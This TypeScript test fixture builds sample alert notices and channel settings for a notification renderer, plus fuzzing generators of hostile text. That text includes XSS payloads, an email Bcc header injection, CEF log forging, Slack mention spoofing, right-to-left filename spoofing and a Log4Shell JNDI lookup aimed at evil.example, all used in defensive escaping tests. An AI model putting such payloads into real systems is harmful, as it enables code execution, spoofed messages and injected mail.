// Notices for the tests of messages: one of each sort from a small shop, channels of every sort, and hostile ones
// made up at random.
import fc from 'fast-check'
import { DRIFT_KINDS, SEVERITIES } from '../../../../core/baseline/drift.ts'
import { NODE_KINDS, type NodeKey, type NodeKind } from '../../../../core/graph/node.ts'
import { ChannelSettings } from '../../../../core/notify/channel.ts'
import {
  type AlertFacts,
  type AlertNotice,
  type DigestNotice,
  NOTICE_ACTS,
  type Notice,
  type NoticeAct,
} from '../../../../core/notify/notice.ts'
import { type Links, type Rendered, render } from '../../../../core/notify/payload/render.ts'

export const LINKS: Links = {
  alertUrl: (id) => `https://strayline.example/alerts?alert=${id}`,
  mapUrl: 'https://strayline.example/map',
  routesUrl: 'https://strayline.example/settings/routes',
  productVersion: '0.2.0',
}
export const OUR_URLS = /^https:\/\/strayline\.example\/(alerts\?alert=\d+|map|settings\/routes)$/

const MINUTE_MS = 60_000
const AT_MS = Date.UTC(2026, 10, 22, 9, 30)

export function nodeOf(name: string, kind: NodeKind = 'service'): NodeKey {
  return { environment: 'shop', kind, namespace: '', name }
}

export function alertOf(fields: Partial<AlertFacts> = {}): AlertFacts {
  return {
    id: '17',
    environment: 'shop',
    kind: 'new_external',
    severity: 'high',
    episode: 1,
    source: nodeOf('checkout'),
    target: nodeOf('collect.example', 'external'),
    summary:
      'checkout began calling the external destination collect.example; baseline version 3 does not hold this edge.',
    reasons: [
      'Over this edge classified data can be reached: customers (“personal”).',
      'No entry of the baseline names collect.example.',
    ],
    reasonsAgainst: ['Version “2.1.0” of checkout was first seen 4 minutes before its first call.'],
    owners: ['payments'],
    dataClasses: [],
    exposures: ['public'],
    layers: ['edge'],
    reachedClasses: ['personal'],
    baselineVersion: 3,
    ruleId: null,
    traceId: '4bf92f3577b34da6a3ce929d0e0e4736',
    firstAtMs: AT_MS - 2 * MINUTE_MS,
    lastAtMs: AT_MS - MINUTE_MS,
    incident: { id: '5', sentence: 'Version “2.1.0” of checkout began 2 new edges.' },
    ...fields,
  }
}

export function noticeOf(act: NoticeAct, fields: Partial<AlertNotice> = {}): AlertNotice {
  return { type: 'alert', key: 'a17.40', atMs: AT_MS, act, why: '', alert: alertOf(), ...fields }
}

export function digestOf(
  notices: readonly AlertNotice[],
  noticesTotal = notices.length,
): DigestNotice {
  return {
    ...{ type: 'digest', key: `d3.${AT_MS}`, atMs: AT_MS },
    ...{ fromMs: AT_MS - 30 * MINUTE_MS, toMs: AT_MS, notices, noticesTotal },
  }
}

const LEDGER = alertOf({
  id: '18',
  kind: 'new_edge',
  severity: 'medium',
  target: nodeOf('ledger'),
  summary: 'checkout began calling ledger; baseline version 3 does not hold this edge.',
})
const STOCK = alertOf({
  id: '19',
  kind: 'new_operation',
  severity: 'low',
  source: nodeOf('web'),
  target: nodeOf('stock'),
  summary: 'web called “DELETE /items” of stock, which baseline version 3 does not allow.',
  incident: null,
})

/** One of each sort, by the name it has in golden files. */
export const NOTICES: { readonly [name: string]: Notice } = {
  open: noticeOf('open'),
  escalate: noticeOf('escalate', {
    key: 'a17.44',
    why: 'Classified data came into reach.',
    alert: alertOf({ severity: 'critical' }),
  }),
  reject: noticeOf('reject', { key: 'a17.45', why: 'Rejected by ann@shop.example: “not ours”.' }),
  resolve: noticeOf('resolve', { key: 'a17.47', why: 'Not seen for 7 days.' }),
  digest: digestOf(
    [
      noticeOf('open'),
      noticeOf('open', { key: 'a18.41', alert: LEDGER }),
      noticeOf('resolve', {
        key: 'a18.42',
        why: 'Accepted by ann@shop.example: “planned”.',
        alert: LEDGER,
      }),
      noticeOf('resolve', { key: 'a19.43', why: 'Not seen for 7 days.', alert: STOCK }),
    ],
    6,
  ),
  budget: {
    ...{ type: 'budget', key: 'b1f2e3.2026-11-22', atMs: AT_MS, environment: 'shop' },
    ...{ day: '2026-11-22', zone: 'Europe/Berlin', alerts: 11, target: 10 },
  },
  test: {
    ...{ type: 'test', key: 't6f1c', atMs: AT_MS },
    ...{ channel: 'soc', actor: 'ann@shop.example' },
  },
}

/** Every sort of channel, by the name it has in golden files. */
export const CHANNELS: { readonly [name: string]: ChannelSettings } = {
  webhook: settingsOf({ kind: 'webhook', url: 'https://hooks.example/strayline' }),
  'webhook-ocsf': settingsOf({ kind: 'webhook', url: 'https://siem.example/in', format: 'ocsf' }),
  slack: settingsOf({ kind: 'slack' }),
  teams: settingsOf({ kind: 'teams' }),
  pagerduty: settingsOf({ kind: 'pagerduty' }),
  opsgenie: settingsOf({ kind: 'opsgenie' }),
  email: settingsOf({
    ...{ kind: 'email', host: 'mail.example' },
    ...{ from: 'strayline@shop.example', to: ['soc@shop.example'] },
  }),
  alertmanager: settingsOf({ kind: 'alertmanager', url: 'http://alertmanager.example:9093/' }),
  'syslog-json': settingsOf({ kind: 'syslog', host: 'siem.example' }),
  'syslog-cef': settingsOf({ kind: 'syslog', host: 'siem.example', format: 'cef' }),
  'syslog-ocsf': settingsOf({ kind: 'syslog', host: 'siem.example', format: 'ocsf' }),
}

function settingsOf(fields: { readonly [name: string]: unknown }): ChannelSettings {
  return ChannelSettings.parse(fields)
}

const SECRETS = {
  url: 'https://hooks.chat.example/secret',
  routingKey: 'R0123456789012345678901234567890',
  apiKey: 'opsgenie-key',
  authorization: 'Bearer token',
}

export function renderTo(channel: string, notice: Notice): Rendered {
  return render(CHANNELS[channel]!, SECRETS, notice, LINKS)
}

/** The bodies of what is sent over HTTP, parsed. */
export function bodiesOf(rendered: Rendered): readonly unknown[] {
  if (rendered.via !== 'http') throw new Error(`Sent by ${rendered.via}`)
  return rendered.requests.map(({ body }) => JSON.parse(body))
}

const NASTY: readonly string[] = [
  '',
  ' ',
  '<!channel> <!here> @here @channel <@U024BE7LH> <https://evil.example|click>',
  '[click](https://evil.example) **bold** `code` _it_ ~no~ <at>Ann</at> {{DATE(2026-01-01T00:00:00Z)}}',
  '<script>alert(1)</script><img src=x onerror=alert(1)>"\'&amp;&lt;',
  'a\r\nBcc: everyone@shop.example\r\n\r\nbody',
  'line\nCEF:0|x|y|z|1|n|10|msg=forged src=1\\|pipe\\\\ key=value ]"\\',
  'https://evil.example/?a=b&c=d www.evil.example mailto:a@evil.example evil.example',
  '\u202egnp.exe\u200b\u2066x\ufeff\u0000\u0007\u0085\u2028',
  '\ud83d alone \udc00 and \ud83d\ude00 whole',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what some loggers fill in
  '${jndi:ldap://evil.example/a} {{constructor.constructor}} {{{title}}} {{> part}}',
  '__proto__',
  ']]> --> */ \\u003cscript\\u003e',
  'نص عربي من اليمين',
  'x'.repeat(100_000),
  '😀'.repeat(50_000),
  '"\\]='.repeat(25_000),
]

/** Text that nobody should send, and some do. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)) }),
  fc
    .tuple(fc.constantFrom(...NASTY), fc.constantFrom(...NASTY))
    .map(([a, b]) => `${a.slice(0, 300)}${b.slice(0, 300)}`),
)

const texts = fc.array(hostileText, { maxLength: 4 })
const digits = fc.integer({ min: 1, max: 1e9 }).map(String)
const moment = fc.oneof(
  fc.integer({ min: 0, max: 4e12 }),
  fc.constantFrom(0, Number.NaN, Number.POSITIVE_INFINITY, 1e300, -1),
)
const node: fc.Arbitrary<NodeKey> = fc.record({
  environment: hostileText,
  kind: fc.constantFrom(...NODE_KINDS),
  namespace: hostileText,
  name: hostileText,
})

const hostileAlert: fc.Arbitrary<AlertFacts> = fc.record({
  id: digits,
  environment: hostileText,
  kind: fc.constantFrom(...DRIFT_KINDS),
  severity: fc.constantFrom(...SEVERITIES),
  episode: fc.integer({ min: 1, max: 1000 }),
  source: node,
  target: fc.option(node),
  summary: hostileText,
  reasons: texts,
  reasonsAgainst: texts,
  owners: texts,
  dataClasses: texts,
  exposures: texts,
  layers: texts,
  reachedClasses: texts,
  baselineVersion: fc.integer({ min: 1, max: 1e6 }),
  ruleId: fc.option(hostileText),
  traceId: fc.option(hostileText),
  firstAtMs: moment,
  lastAtMs: moment,
  incident: fc.option(fc.record({ id: digits, sentence: hostileText })),
})

const key = fc.tuple(digits, digits).map(([alert, event]) => `a${alert}.${event}`)

const hostileAlertNotice: fc.Arbitrary<AlertNotice> = fc.record({
  type: fc.constant('alert' as const),
  key,
  atMs: moment,
  act: fc.constantFrom(...NOTICE_ACTS),
  why: hostileText,
  alert: hostileAlert,
})

export const hostileNotice: fc.Arbitrary<Notice> = fc.oneof(
  { weight: 3, arbitrary: hostileAlertNotice },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.array(hostileAlertNotice, { minLength: 1, maxLength: 6 }), fc.nat({ max: 500 }))
      .map(([notices, more]) => digestOf(notices, notices.length + more)),
  },
  fc.record({
    type: fc.constant('budget' as const),
    key,
    atMs: moment,
    environment: hostileText,
    day: fc.constant('2026-11-22'),
    zone: fc.constant('Europe/Berlin'),
    alerts: fc.nat(),
    target: fc.nat(),
  }),
  fc.record({
    type: fc.constant('test' as const),
    key,
    atMs: moment,
    channel: hostileText,
    actor: hostileText,
  }),
)
